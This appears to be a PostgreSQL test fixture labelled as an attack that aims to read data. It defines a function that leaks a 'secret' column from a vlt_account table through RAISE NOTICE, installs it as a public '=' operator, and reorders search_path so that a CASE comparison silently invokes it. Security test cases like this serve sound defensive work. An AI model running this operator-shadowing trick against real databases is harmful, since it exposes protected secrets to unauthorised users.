-- Hides the comparison that CASE uses.
-- wants: read
-- attack:
CREATE FUNCTION differs(text, text) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id = 1); RETURN false; END$$;
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = differs);
SET search_path = public, pg_catalog;
SELECT CASE v WHEN 'one' THEN 1 END FROM mallory_own;
